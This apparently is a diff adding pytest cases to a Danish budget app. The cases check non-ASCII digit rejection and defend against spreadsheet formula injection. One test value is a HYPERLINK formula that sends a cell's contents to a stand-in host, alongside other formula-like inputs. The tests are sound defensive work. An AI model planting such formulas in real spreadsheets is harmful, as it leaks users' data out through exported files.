@@ -140,6 +140,9 @@ def test_amounts_as_danish_spreadsheets_write_them(value, expected):
         ("1.61.000", "er ikke et beløb"),
         ("abc", "er ikke et beløb"),
         ("", "Beløbet mangler"),
+        ("١٢٣", "cifrene 0-9"),  # Arabic-Indic digits
+        ("１２３", "cifrene 0-9"),  # full-width digits
+        ("1.６15.000", "cifrene 0-9"),
     ],
 )
 def test_bad_amounts_say_what_is_wrong(value, message):
@@ -154,7 +157,12 @@ def test_dates_in_the_accepted_formats(value):
 
 @pytest.mark.parametrize(
     ("value", "message"),
-    [("31-02-2025", "findes ikke"), ("31-08-25", "fire cifre"), ("i går", "er ikke en dato")],
+    [
+        ("31-02-2025", "findes ikke"),
+        ("31-08-25", "fire cifre"),
+        ("i går", "er ikke en dato"),
+        ("٣١-٠٨-٢٠٢٥", "er ikke en dato"),
+    ],
 )
 def test_bad_dates_say_what_is_wrong(value, message):
     with pytest.raises(ValueError, match=message):
@@ -317,3 +325,34 @@ def test_a_file_that_is_no_spreadsheet_is_refused_on_the_form(client, secretary)
     assert response.status_code == 200
     assert "hverken et Excel-regneark (.xlsx) eller en tekstfil (.csv)" in text_of(response)
     assert "token" not in response.context
+
+
+# --- Formula injection ----------------------------------------------------------------------
+
+HYPERLINK = '=HYPERLINK("http://example.invalid/?"&B4,"Klik her")'
+
+
+@pytest.mark.parametrize("name", [HYPERLINK, "+1+2", "-1+2", "@SUM(A1)", "\tx", "\rx"])
+def test_export_writes_a_name_that_looks_like_a_formula_as_text(seed, name):
+    """A name already in the database (from before names were checked) never becomes a live
+    formula: the cell is a text cell with Excel's quote prefix."""
+    project = seed.committee.programmes.get(short_name="DAP").budgets.get().lines.first().project
+    type(project).objects.filter(pk=project.pk).update(name=name)
+
+    data = export_xlsx(budget_table_for("DAP", 2025))
+    sheet = load_workbook(io.BytesIO(data)).active
+
+    cell = sheet["A4"]  # the first line's project
+    assert cell.value.replace("\n", "\r") == name
+    assert cell.data_type == "s"
+    assert cell.quotePrefix
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
+
+
+def test_an_imported_row_whose_name_is_a_formula_is_a_problem():
+    data = f"{HYPERLINK};1000;31-08-2025\nCockpit;5;31-08-2025\n".encode()
+    parsed = read_spent_file(data)
+
+    assert [row.project for row in parsed.rows] == ["Cockpit"]
+    assert "formel" in parsed.problems[0].reason
